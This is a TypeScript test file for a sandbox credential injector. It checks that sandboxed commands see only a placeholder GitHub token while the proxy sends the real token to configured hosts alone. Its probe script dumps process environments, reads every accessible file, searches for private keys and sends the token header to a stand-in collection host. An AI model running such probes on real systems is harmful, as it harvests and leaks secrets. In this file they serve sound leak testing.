// Inside a real bubblewrap sandbox (network only through the in-sandbox bridge and a proxy on a unix
// socket calling the injector's hook), `gh`-style curl and `git push` put the real token on the wire
// to the configured host, while env, every /proc/<pid>/environ and cmdline, and the readable files
// show only the placeholder, and another host gets only the placeholder.
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { probeSandbox } from '../probe.js';
import {
  envFilter,
  installRoot,
  PROXY_PORT,
  PROXY_SOCKET_IN_SANDBOX,
  proxyEnv,
  sandboxArgs,
  type SandboxProfile,
} from '../profile.js';
import { Sandbox } from '../sandbox.js';
import {
  presented,
  readableFiles,
  startStandIn,
  startTestProxy,
  type StandIn,
  type TestProxy,
} from '@conch/test-support/credentials';
import { bwrap, tempWorkspace } from '../test-support/guarded.js';
import { CA_BUNDLE_IN_SANDBOX, CredentialInjector } from './credential-injector.js';
import { SessionCa } from './session-ca.js';

const ready = bwrap !== undefined && (await probeSandbox()).available;
if (!ready && process.env.CI) throw new Error('CI needs bubblewrap for the credential sandbox test');
const maybe = ready ? describe : describe.skip;

const SANDBOX_INIT = join(dirname(fileURLToPath(import.meta.url)), '..', '..', 'dist', 'sandbox-init.js');
const SECRET = 'ghp_SandboxNeverSeesThis0123456789abcdefAB';

let dir: string;
let standIn: StandIn;
let injector: CredentialInjector;
let proxy: TestProxy;
let socketPath: string;
let bundleOnHost: string;
let resolveStandInCa!: (ca: SessionCa) => void;
const standInCa = new Promise<SessionCa>((resolve) => (resolveStandInCa = resolve));

beforeAll(async () => {
  if (!ready) return;
  // The host's own directory for the proxy socket and the bundle: outside every writable root.
  dir = mkdtempSync(join(tmpdir(), 'conch-credentials-net-'));
  mkdirSync(join(dir, 'srv', 'owner'), { recursive: true });
  const testCa = await SessionCa.create({ commonName: 'stand-in public CA' });
  resolveStandInCa(testCa);
  writeFileSync(join(dir, 'system-cas.pem'), testCa.certificate);
  standIn = await startStandIn({ ca: testCa, secret: SECRET, gitRoot: join(dir, 'srv') });
  injector = await CredentialInjector.create(
    [{ hosts: ['github.com', 'api.github.com'], value: SECRET, env: ['GH_TOKEN', 'GITHUB_TOKEN'] }],
    { upstreamCa: testCa.certificate, systemCaFile: join(dir, 'system-cas.pem') },
  );
  bundleOnHost = injector.writeCaBundle(dir);
  socketPath = join(dir, 'proxy.sock');
  proxy = await startTestProxy({ injector, standInPort: standIn.port, socketPath });
  await run('git', ['init', '-q', '--bare', join(dir, 'srv', 'owner', 'repo.git')], {
    PATH: process.env.PATH ?? '/usr/bin:/bin',
  });
}, 60_000);

afterAll(async () => {
  injector?.close();
  await proxy?.close();
  await standIn?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

function run(
  file: string,
  args: readonly string[],
  env: Record<string, string>,
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(file, args, { env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

maybe('credentials in a real sandbox', () => {
  it('the tools work with the placeholder, the wire carries the token, nothing inside shows it', async () => {
    const ws = tempWorkspace('conch-credentials-ws-');
    const sandbox = new Sandbox({ workspace: ws });
    try {
      const profile = sandbox.profile();
      if (profile.kind !== 'workspace-write') throw new Error('expected a workspace-write profile');
      // The wiring the report describes: the proxy, the bundle bound read-only at its fixed path.
      const walled: SandboxProfile = {
        ...profile,
        network: 'proxy',
        substitutes: [...(profile.substitutes ?? []), { path: CA_BUNDLE_IN_SANDBOX, source: bundleOnHost }],
      };
      const { args: wall } = sandboxArgs(
        walled,
        [process.execPath, SANDBOX_INIT].map((p) => installRoot(p)),
        {
          tmp: mkdtempSync(join(dir, 'tmp-')),
          proxySocket: socketPath,
        },
      );
      // The host's environment holds the real token (the user's shell had it): the sandbox's filter
      // drops it by name, then the sandbox's own variables put the placeholders in its place.
      const host: Record<string, string> = {
        PATH: process.env.PATH ?? '/usr/bin:/bin',
        LANG: 'C',
        GH_TOKEN: SECRET,
        GITHUB_TOKEN: SECRET,
      };
      const hidden = envFilter(walled);
      const env: Record<string, string> = {};
      for (const [name, value] of Object.entries(host)) if (!hidden?.(name, value)) env[name] = value;
      Object.assign(env, walled.env ?? {}, proxyEnv(), injector.sandboxEnv(), {
        HOME: ws,
        GIT_CONFIG_NOSYSTEM: '1',
        GIT_TERMINAL_PROMPT: '0',
        GIT_AUTHOR_NAME: 'Agent',
        GIT_AUTHOR_EMAIL: 'agent@example.com',
        GIT_COMMITTER_NAME: 'Agent',
        GIT_COMMITTER_EMAIL: 'agent@example.com',
      });
      const placeholder = env.GH_TOKEN!;
      expect(placeholder).toMatch(/^conch-placeholder-/);
      const script = [
        'echo "== env"; env',
        'echo "== proc"; for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ; tr "\\0" " " < $p/cmdline; echo; done 2>/dev/null',
        // Every readable file under the places a secret could have been written for the sandbox.
        `echo "== files"; ${readableFiles('/run /tmp /etc "$HOME"', '-xdev')} | xargs -0r cat 2>/dev/null`,
        `echo "== keys"; ${readableFiles('/run /tmp "$HOME"')} | xargs -0r grep -ls "PRIVATE KEY"; echo "keys end"`,
        'echo "== gh"; curl -sS -H "Authorization: token $GH_TOKEN" https://api.github.com/user',
        'echo "== other"; curl -sS -H "Authorization: token $GH_TOKEN" https://other.example/collect',
        'echo "== git"; git init -q -b main && echo hi > f && git add f && git commit -q -m one',
        'git -c credential.helper=\'!f() { echo username=x-access-token; echo "password=$GH_TOKEN"; }; f\' push https://github.com/owner/repo.git main 2>&1',
        'echo "git push: $?"',
      ].join('\n');
      const inner = [
        process.execPath,
        SANDBOX_INIT,
        '--bridge',
        PROXY_SOCKET_IN_SANDBOX,
        String(PROXY_PORT),
        '--',
        'bash',
        '-c',
        script,
      ];
      const seenBefore = standIn.seen.length;
      const r = await run(bwrap!, [...wall, '--die-with-parent', '--chdir', ws, '--', ...inner], env);
      const out = r.stdout + r.stderr;
      expect(r.code, out).toBe(0);
      expect(out).not.toContain(SECRET);
      const section = (name: string) => out.split(`== ${name}\n`)[1]!.split('\n== ')[0]!;
      expect(section('env')).toContain(`GH_TOKEN=${placeholder}`);
      expect(section('env')).toContain(`GITHUB_TOKEN=${placeholder}`);
      expect(section('env')).toContain(`SSL_CERT_FILE=${CA_BUNDLE_IN_SANDBOX}`);
      expect(section('proc')).toContain(placeholder);
      expect(section('files')).toContain(injector.caCertificate.trim());
      expect(section('keys')).toBe('keys end');
      expect(section('gh')).toBe('ok 0');
      expect(out).toContain('git push: 0');
      const seen = standIn.seen.slice(seenBefore);
      const gh = seen.find((s) => s.url === '/user')!;
      expect(gh).toMatchObject({ sni: 'api.github.com', authorization: [`token ${SECRET}`] });
      const other = seen.find((s) => s.url === '/collect')!;
      expect(other).toMatchObject({ sni: 'other.example', authorization: [`token ${placeholder}`] });
      const pushes = seen.filter((s) => s.url.includes('/owner/repo.git/') && s.authorization.length);
      expect(pushes.length).toBeGreaterThan(0);
      for (const p of pushes) expect(presented(p.authorization[0]!)).toEqual(['x-access-token', SECRET]);
      expect(proxy.connects.filter((c) => c.host === 'other.example').every((c) => !c.intercepted)).toBe(
        true,
      );
    } finally {
      sandbox.dispose();
      rmSync(ws, { recursive: true, force: true });
    }
  }, 60_000);
});

maybe('the library Sandbox with credentials', () => {
  it('puts the real value on the wire to its destinations only; commands see the placeholder, and a host variable holding the value under any name is left out', async () => {
    const ws = tempWorkspace();
    const port = standIn.port;
    const hostInjector = await CredentialInjector.create(
      [{ hosts: [`api.github.com:${port}`], value: SECRET, env: ['GH_TOKEN'] }],
      { upstreamCa: (await standInCa).certificate, systemCaFile: join(dir, 'system-cas.pem') },
    );
    // The test's resolver puts every name on the stand-in (127.0.0.1): a name resolving to loopback
    // is reached only when the allow-list names that address too (no DNS rebinding), so it does.
    const sandbox = new Sandbox({
      workspace: ws,
      credentials: hostInjector,
      network: { allow: [`elsewhere.test:${port}`, `127.0.0.1:${port}`], lookup: async () => ['127.0.0.1'] },
    });
    const before = standIn.seen.length;
    try {
      const r = await sandbox.run(
        'bash',
        [
          '-c',
          [
            'echo "token=$GH_TOKEN"',
            'echo "other=${MY_COPY:-unset}"',
            `curl -s -m 30 -H "Authorization: token $GH_TOKEN" https://api.github.com:${port}/echo-header`,
            `curl -s -m 30 -H "Authorization: token $GH_TOKEN" https://elsewhere.test:${port}/echo-header`,
            `curl -s -m 30 -o /dev/null -w "%{http_connect}\\n" https://not-listed.test:${port}/`,
          ].join('; '),
        ],
        { env: { ...process.env, MY_COPY: SECRET } },
      );
      const lines = r.stdout!.split('\n');
      const placeholder = hostInjector.placeholderEnv().GH_TOKEN!;
      expect(lines[0], r.stderr).toBe(`token=${placeholder}`);
      expect(lines[1]).toBe('other=unset');
      expect(r.stdout).not.toContain(SECRET);
      const seen = standIn.seen.slice(before);
      const at = (sni: string) =>
        seen.filter((q) => q.sni === sni).flatMap((q) => q.authorization.flatMap(presented));
      // The configured destination got the real token; another allowed host only the placeholder.
      expect(at('api.github.com')).toEqual([SECRET]);
      expect(at('elsewhere.test')).toEqual([placeholder]);
      expect(lines).toContain('ok 0');
      // A host neither listed nor a credential's: refused by the proxy, and reported.
      expect(lines).toContain('403');
      expect(r.blocked.map((b) => b.host)).toContain('not-listed.test');
    } finally {
      sandbox.dispose();
      hostInjector.close();
    }
  });
});
